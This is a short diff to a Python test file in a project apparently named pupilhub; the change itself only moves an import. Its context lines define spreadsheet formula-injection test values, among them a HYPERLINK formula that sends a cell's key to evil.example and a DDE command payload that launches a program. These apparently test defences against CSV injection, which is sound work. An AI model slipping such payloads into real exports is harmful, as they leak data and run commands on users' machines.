@@ -10,8 +10,8 @@ from openpyxl import load_workbook
 
 from pupilhub.billing import actions as billing
 from pupilhub.core.sheets import csv_cell
-from pupilhub.core.testing import make_pupil
 from pupilhub.gateway.models import LicenceType
+from pupilhub.testing import make_pupil
 
 EVIL = '=HYPERLINK("https://evil.example/?k="&G2,"Click to check your key")'
 EVILS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
